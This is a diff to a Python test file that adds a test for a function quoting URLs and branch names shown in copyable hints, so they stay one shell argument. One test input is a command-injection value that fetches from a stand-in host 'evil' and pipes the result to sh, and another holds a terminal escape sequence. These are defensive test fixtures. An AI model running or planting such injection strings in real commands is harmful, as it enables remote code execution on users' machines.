@@ -8,7 +8,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from grex.names import clean, redact
+from grex.names import clean, redact, shown_argument
 
 
 @pytest.mark.parametrize(
@@ -133,3 +133,10 @@ def test_text_made_to_be_slow_is_not(piece: str) -> None:
     clean(text)
     redact(text)
     assert time.process_time() - started < 5  # quadratic work on this much text takes minutes
+
+
+def test_what_stands_in_a_hint_is_one_argument_to_a_shell() -> None:
+    """A hint is made to be copied: a URL or branch of somebody else must not become a second command."""
+    assert shown_argument("https://host/team/x") == "https://host/team/x"
+    assert shown_argument("https://host/x;curl${IFS}evil|sh") == "'https://host/x;curl${IFS}evil|sh'"
+    assert shown_argument("a\x1b[2Jb") == "ab"
